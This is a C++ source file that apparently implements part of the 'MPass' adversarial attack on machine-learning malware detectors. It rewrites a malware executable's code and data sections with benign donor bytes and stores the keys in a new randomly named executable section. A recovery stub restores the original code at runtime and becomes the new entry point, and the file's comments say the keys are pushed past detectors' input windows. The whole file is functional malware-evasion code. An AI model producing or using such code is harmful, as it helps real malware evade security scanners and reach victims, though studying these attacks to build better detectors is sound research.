#include "core/modification.hpp"

#include <algorithm>

#include "obs/span.hpp"

namespace mpass::core {

using util::ByteBuf;

namespace {

/// True if section i is part of the code+data critical set: executable, or
/// initialized data that is not the import table, resources or relocations.
bool is_code_data(const pe::PeFile& file, std::size_t i) {
  const pe::Section& s = file.sections[i];
  if (s.data.empty()) return false;
  if (s.executable()) return true;
  if (!(s.characteristics & pe::kScnInitializedData)) return false;
  // Never touch the import table (paper §III-C footnote).
  const pe::DataDirectory& imp = file.dirs[pe::kDirImport];
  if (imp.rva >= s.vaddr && imp.rva < s.vaddr + std::max(s.vsize, 1u))
    return false;
  if (s.name == ".rsrc" || s.name == ".reloc") return false;
  return true;
}

std::vector<std::size_t> select_targets(const pe::PeFile& file,
                                        TargetMode mode) {
  std::vector<std::size_t> out;
  for (std::size_t i = 0; i < file.sections.size(); ++i) {
    if (file.sections[i].data.empty()) continue;
    const bool code_data = is_code_data(file, i);
    // The import table stays untouched in every mode.
    const pe::DataDirectory& imp = file.dirs[pe::kDirImport];
    const pe::Section& s = file.sections[i];
    const bool is_imports =
        imp.rva >= s.vaddr && imp.rva < s.vaddr + std::max(s.vsize, 1u);
    switch (mode) {
      case TargetMode::CodeData:
        if (code_data) out.push_back(i);
        break;
      case TargetMode::OtherSec:
        if (!code_data && !is_imports) out.push_back(i);
        break;
      case TargetMode::None:
        break;
    }
  }
  return out;
}

std::string random_section_name(util::Rng& rng) {
  static constexpr char kAlpha[] = "abcdefghijklmnopqrstuvwxyz0123456789";
  std::string name = rng.chance(0.5) ? "." : "";
  const std::size_t len = 3 + rng.below(4);
  for (std::size_t i = 0; i < len; ++i)
    name.push_back(kAlpha[rng.below(sizeof(kAlpha) - 1)]);
  return name;
}

}  // namespace

void ModifiedSample::set_byte(std::uint32_t p, std::uint8_t v) {
  const std::uint8_t old = bytes[p];
  if (old == v) return;
  bytes[p] = v;
  if (const std::uint32_t k = key_of[p]; k != kNoKey) {
    // Keep x = b - k invariant: k += (b_new - b_old)  (mod 256).
    bytes[k] = static_cast<std::uint8_t>(bytes[k] +
                                         static_cast<std::uint8_t>(v - old));
  }
}

std::size_t ModifiedSample::coupled_count() const {
  return static_cast<std::size_t>(std::ranges::count_if(
      key_of, [](std::uint32_t k) { return k != kNoKey; }));
}

ModifiedSample apply_modification(std::span<const std::uint8_t> malware,
                                  std::span<const std::uint8_t> donor,
                                  const ModificationConfig& cfg,
                                  util::Rng& rng) {
  OBS_SCOPE("core.modification");
  pe::PeFile file = pe::PeFile::parse(malware);
  const std::uint32_t oep_va = file.image_base + file.entry_point;

  // ---- encode target sections -----------------------------------------------
  // Benign content is inserted *kind-aligned*: an encoded code section gets
  // the donor's code bytes, a data section gets donor data bytes. This is
  // the natural reading of the paper's "insert contexts from a randomly
  // selected benign program" -- the modified sample's sections then follow
  // true benign byte statistics rather than arbitrary donor slices.
  // Donor slices are taken from the donor's *raw file bytes* starting at a
  // matching-kind section's (file-alignment-rounded) offset, so the copied
  // byte stream sits on the same convolution grid byte-level detectors saw
  // it on during training. Cyclic wrap over the whole donor file preserves
  // that grid (file sizes are alignment-padded).
  pe::PeFile donor_pe;
  pe::Layout donor_layout;
  bool donor_parsed = false;
  try {
    donor_pe = pe::PeFile::parse(donor);
    donor_pe.build_with_layout(&donor_layout);
    donor_parsed = true;
  } catch (const util::ParseError&) {
  }
  auto donor_start = [&](bool executable) -> std::size_t {
    if (!donor_parsed) return 0;
    std::vector<std::size_t> candidates;
    for (std::size_t i = 0; i < donor_pe.sections.size(); ++i)
      if (donor_pe.sections[i].executable() == executable &&
          donor_pe.sections[i].data.size() >= 64 &&
          i < donor_layout.sections.size())
        candidates.push_back(i);
    if (candidates.empty()) return 0;
    const std::size_t pick = candidates[rng.below(candidates.size())];
    // Randomize the start within the section (16-byte grid so detectors
    // still see donor bytes on the donor's convolution grid): two AEs
    // drawing from the same donor then share no long byte runs at the same
    // alignment, which is what keeps MPass un-mineable in Fig. 4.
    const std::size_t raw = donor_pe.sections[pick].data.size();
    const std::size_t slack16 = raw > 512 ? (raw - 512) / 16 : 0;
    return donor_layout.sections[pick].file_offset +
           16 * (slack16 ? rng.below(slack16) : 0);
  };

  const std::vector<std::size_t> targets = select_targets(file, cfg.targets);
  std::vector<RegionPlan> regions;
  std::vector<ByteBuf> keys;
  std::size_t encoded_total = 0;
  for (std::size_t i : targets) {
    pe::Section& s = file.sections[i];
    RegionPlan plan;
    plan.va = file.image_base + s.vaddr;
    plan.len = static_cast<std::uint32_t>(s.data.size());
    plan.prot = s.executable() ? 3u : 1u;
    const std::size_t start = donor_start(s.executable());
    ByteBuf key(s.data.size());
    for (std::size_t j = 0; j < s.data.size(); ++j) {
      const std::uint8_t b =
          donor.empty() ? 0 : donor[(start + j) % donor.size()];
      key[j] = static_cast<std::uint8_t>(b - s.data[j]);  // k = b - x
      s.data[j] = b;                                      // benign content in
    }
    encoded_total += s.data.size();
    regions.push_back(plan);
    keys.push_back(std::move(key));
    // Encoded sections must stay mapped with their full content; recovery
    // restores them in place, so characteristics are unchanged (the stub
    // VProtects what it needs).
  }

  // ---- recovery section -------------------------------------------------------
  StubOptions stub_opts = cfg.stub;
  stub_opts.lead_filler = std::max<std::size_t>(
      cfg.min_tail,
      static_cast<std::size_t>(cfg.filler_ratio *
                               static_cast<double>(encoded_total)));
  if (cfg.push_keys_beyond > 0) {
    // The new section's raw data lands where the overlay currently starts;
    // size the lead filler so the stub and key blocks start past the
    // detectors' input windows.
    pe::Layout pre;
    file.build_with_layout(&pre);
    if (pre.overlay_offset < cfg.push_keys_beyond)
      stub_opts.lead_filler =
          std::max(stub_opts.lead_filler,
                   cfg.push_keys_beyond - pre.overlay_offset);
  }
  const std::uint32_t section_rva = file.next_free_rva();
  const std::uint32_t section_va = file.image_base + section_rva;
  // Filler content: a grid-aligned benign slice (the section's raw data
  // starts on a file-alignment boundary, so donor bytes keep their grid).
  ByteBuf filler_src;
  {
    const std::size_t start = donor_start(/*executable=*/false);
    const std::size_t want =
        std::max<std::size_t>(stub_opts.lead_filler + 1024, 4096);
    filler_src.resize(want);
    for (std::size_t j = 0; j < want; ++j)
      filler_src[j] = donor.empty() ? 0 : donor[(start + j) % donor.size()];
  }
  RecoverySection recovery = build_recovery_section(
      regions, keys, section_va, oep_va, filler_src, stub_opts, rng);

  const std::size_t new_index = file.add_section(
      random_section_name(rng), recovery.data,
      pe::kScnCode | pe::kScnMemRead | pe::kScnMemExecute);
  file.entry_point = section_rva + recovery.entry_offset;

  // Header-field perturbations (timestamp; new-section name already random).
  if (cfg.modify_headers)
    file.timestamp = static_cast<std::uint32_t>(rng.range(0x50000000,
                                                          0x65000000));

  // ---- build + position bookkeeping ------------------------------------------
  ModifiedSample out;
  pe::Layout layout;
  out.bytes = file.build_with_layout(&layout);
  out.apr =
      (static_cast<double>(out.bytes.size()) - static_cast<double>(malware.size())) /
      static_cast<double>(malware.size());
  out.recovery_section_off = layout.sections[new_index].file_offset;
  out.recovery_section_len =
      static_cast<std::uint32_t>(recovery.data.size());

  // Encoded section bytes (with key mapping into the new section).
  const std::uint32_t new_off = layout.sections[new_index].file_offset;
  out.key_of.assign(out.bytes.size(), ModifiedSample::kNoKey);
  for (std::size_t t = 0; t < targets.size(); ++t) {
    const std::uint32_t sec_off = layout.sections[targets[t]].file_offset;
    const std::uint32_t key_off = new_off + recovery.key_offsets[t];
    for (std::uint32_t j = 0; j < regions[t].len; ++j) {
      out.perturbable.push_back(sec_off + j);
      out.key_of[sec_off + j] = key_off + j;
    }
  }
  // Shuffle gaps + tail filler.
  for (const auto& [off, len] : recovery.free_ranges)
    for (std::uint32_t j = 0; j < len; ++j)
      out.perturbable.push_back(new_off + off + j);

  // Header fields: timestamp + section name bytes.
  if (cfg.modify_headers) {
    const std::uint32_t lfanew =
        64 + static_cast<std::uint32_t>(file.dos_stub.size());
    for (std::uint32_t b = 0; b < 4; ++b)
      out.perturbable.push_back(lfanew + 8 + b);  // COFF TimeDateStamp
    const std::uint32_t table = lfanew + 4 + 20 + 224;
    for (std::size_t i = 0; i < file.sections.size(); ++i)
      for (std::uint32_t b = 0; b < 8; ++b)
        out.perturbable.push_back(table + static_cast<std::uint32_t>(i) * 40 +
                                  b);
  }

  std::sort(out.perturbable.begin(), out.perturbable.end());
  return out;
}

}  // namespace mpass::core
